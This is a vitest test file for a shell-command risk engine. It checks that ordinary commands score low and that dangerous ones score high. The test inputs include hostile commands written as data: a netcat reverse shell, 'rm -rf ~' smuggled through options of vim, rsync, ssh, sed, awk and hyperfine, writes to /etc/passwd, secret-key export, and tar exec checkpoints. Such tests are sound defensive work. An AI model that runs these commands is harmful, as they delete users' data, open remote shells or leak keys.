// The machine's shape tables (risk/shapes/system.ts) through the whole engine: an ordinary form of each family is
// low, an option Gatehouse does not know is medium and says so, and every option that runs, loads or writes is
// judged as what it does. Commands here are data: they are only ever scored.
import { beforeAll, describe, expect, it } from 'vitest';
import type { RiskEngine } from '../../../../../electron/core/risk/engine.ts';
import { createRiskEngine } from '../../../../../electron/core/risk/index.ts';
import { sedEffects } from '../../../../../electron/core/risk/shapes/checks.ts';
import { PROJECT, testContextOptions } from '../../../../support/risk.ts';

let engine: RiskEngine;
beforeAll(async () => {
  engine = await createRiskEngine(
    testContextOptions({ branch: 'feature/x', changedFiles: 3, changedLines: 40, untrackedFiles: 0, stashes: 0 }),
  );
});

const assess = (cmd: string) => engine.assess(cmd, PROJECT);
const HIGH = ['high', 'critical'];

describe('ordinary forms are low', () => {
  it.each([
    "awk '{print $1}' data.txt",
    "gawk -F: -v OFS=, '{print $1, $3}' users.txt",
    'sed -n 1p f',
    "sed -e 's/a/b/g' -e '/^#/d' notes.txt",
    'rsync -avz --exclude=node_modules src/ build/',
    'nc -zv localhost 5432',
    'ip addr show',
    'ip -br a',
    'ip route get 1.1.1.1',
    'ifconfig en0',
    'route -n get default',
    'iptables -L -n -v',
    'traceroute -n example.com',
    'openssl x509 -in cert.pem -noout -subject -dates',
    'openssl s_client -connect example.com:443 -servername example.com -showcerts',
    'openssl rand -hex 32',
    'ssh-add -l',
    'gpg --list-keys',
    'systemctl status nginx --no-pager',
    'systemctl list-units --type=service --state=running',
    'journalctl -u nginx -n 50 --no-pager',
    'launchctl list',
    'crontab -l',
    'sudo -k',
    'kill -0 4242',
    'fdisk -l',
    'lsblk -f',
    'findmnt -t ext4',
    'mount',
    'dmesg -T --level=err',
    'sysctl -n kern.ostype',
    'vmstat 1 5',
    'lscpu',
    'brew list --versions',
    'brew --prefix openssl',
    'apt list --installed',
    'dpkg -l',
    'defaults read com.apple.dock',
    'tmux ls',
    'tmux capture-pane -p -t main',
    'screen -ls',
    'watch -n 5 ls',
    "hyperfine --warmup 3 'ls -la'",
    'entr make test',
    'mkcert localhost',
    'vim +42 src/a.ts',
    "vim -c 'set nu' src/a.ts",
    'code .',
    'man -k socket',
    '7z l a.7z',
    'xz -l a.tar.xz',
    'patch -p1 fixes/a.diff',
    'dd if=/dev/zero of=out.bin bs=1M count=1',
    'git update-index --chmod=+x scripts/release.sh',
    'git secrets --scan',
    'cmd /c "dir && echo ok"',
  ])('%s is low', (cmd) => {
    const risk = assess(cmd);
    expect(risk.level, risk.reasons.join(' / ')).toBe('low');
  });
});

describe('remote work is read to its last word, and left to the rules', () => {
  it.each([
    'ssh -o BatchMode=yes -p 2222 build.example uptime',
    'rsync -avz --delete src/ build/',
    'scp -P 2222 build.example:logs/app.log /tmp/app.log',
  ])('%s', (cmd) => {
    const risk = assess(cmd);
    expect(risk.level).toBe('medium');
    expect(risk.categories).not.toContain('unparsed');
  });
});

describe('an option Gatehouse does not know is medium, and says so', () => {
  it.each([
    'awk --frobnicate 1 data.txt',
    'sed --frobnicate 1p f',
    'rsync --frobnicate a/ b/',
    'nc -zv --frobnicate localhost 5432',
    'ip --frobnicate addr',
    'openssl x509 -frobnicate -in cert.pem',
    'systemctl status --frobnicate nginx',
    'journalctl --frobnicate',
    'tmux --frobnicate ls',
    'vim --frobnicate f',
    'brew list --frobnicate',
    'dmesg --frobnicate',
    'hyperfine --frobnicate ls',
  ])('%s is medium', (cmd) => {
    const risk = assess(cmd);
    expect(risk.level).toBe('medium');
    expect(risk.reasons.join(' / ')).toMatch(/does not know/);
  });
});

describe('forms that change the machine are not low', () => {
  it.each([
    'ip link set eth0 down',
    'ifconfig eth0 down',
    'route add default 10.0.0.1',
    'iptables -A INPUT -j DROP',
    'crontab -e',
    'journalctl --vacuum-time=1d',
    'dmesg -C',
    'sysctl -w net.ipv4.ip_forward=1',
    'sysctl net.ipv4.ip_forward=1',
    'mkcert -install',
    'mount /dev/sdb1 /mnt',
    'systemctl restart nginx',
    'ssh -L 8080:localhost:80 host',
    'ssh -A host',
    'nc -e /bin/sh example.com 4444',
    'code --install-extension evil.vsix',
    'emacs --eval \'(shell-command "ls")\'',
    'nvim -l script.lua',
    'vim -S session.vim',
    "vim +'!rm -rf ~' f",
    'tmux send-keys -t main ls Enter',
    'apt-get install -y curl',
    'defaults write com.apple.dock autohide -bool true',
    'osascript script.scpt',
    'gpg --export-secret-keys',
    'sed -f script.sed f',
    'awk -f prog.awk data.txt',
    'script out.log',
  ])('%s is not low', (cmd) => {
    expect(assess(cmd).level).not.toBe('low');
  });
});

describe('what an option runs, loads or writes is judged as that', () => {
  it.each([
    'find . -fprint /etc/passwd',
    "vim -c '!rm -rf ~' f",
    'vim -c \'call system("rm -rf ~")\' f',
    "nvim --cmd '!rm -rf ~'",
    `rsync -e 'sh -c "rm -rf ~"' a b`,
    "rsync --rsync-path='rm -rf ~' a host:b",
    "ssh -o ProxyCommand='rm -rf ~' host",
    "scp -o 'LocalCommand=rm -rf ~' a host:b",
    "watch 'rm -rf ~'",
    "watch -d 'rm -rf ~'",
    "hyperfine 'rm -rf ~'",
    "hyperfine 'ls' 'rm -rf ~'",
    "hyperfine --prepare 'rm -rf ~' ls",
    'watchexec -e ts -- rm -rf ~',
    'entr rm -rf ~',
    "tmux new -d -s x 'rm -rf ~'",
    "sed '1e rm -rf ~' f",
    "sed -e 's/x/y/e' f",
    "sed 's/a/b/w /etc/passwd' f",
    "sed -i '' '1e rm -rf ~' f",
    'openssl req -new -x509 -nodes -keyout /etc/ssl/private/x.key -out /etc/ssl/certs/x.pem',
    'ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519 -N ""',
    'awk \'BEGIN { system("rm -rf ~") }\'',
  ])('%s is high or critical', (cmd) => {
    const risk = assess(cmd);
    expect(HIGH, `${cmd}: ${risk.level} ${risk.reasons.join(' / ')}`).toContain(risk.level);
  });

  it.each([
    'rg --pre ./x files',
    'tar --checkpoint-action=exec=sh\\ x.sh -cf a.tar .',
    "zip -TT 'sh x.sh' -T a.zip f",
    "xargs -I{} sh -c 'rm -rf {}'",
    "sed 'Z' f",
    "vim -c 'normal! ggdG' -c 'source x.vim' f",
  ])('%s is not low', (cmd) => {
    expect(assess(cmd).level).not.toBe('low');
  });
});

describe('sed scripts', () => {
  it('finds the commands a script runs and the files it writes', () => {
    expect(sedEffects('1,20p')).toEqual({ runs: [], writes: [], unread: null });
    expect(sedEffects('s/a/b/g; /^#/d; $!N')).toEqual({ runs: [], writes: [], unread: null });
    expect(sedEffects('s|/usr|/opt|g')).toEqual({ runs: [], writes: [], unread: null });
    expect(sedEffects('1i\\\nheader line')).toEqual({ runs: [], writes: [], unread: null });
    expect(sedEffects('1e date').runs).toEqual(['date']);
    expect(sedEffects('s/x/y/e').runs).toEqual(['']);
    expect(sedEffects('/x/w out.txt').writes).toEqual(['out.txt']);
    expect(sedEffects('s/x/y/gw log.txt').writes).toEqual(['log.txt']);
    expect(sedEffects('/a/ { s/a/b/; p }').unread).toBeNull();
    expect(sedEffects('s/unclosed').unread).not.toBeNull();
  });
});
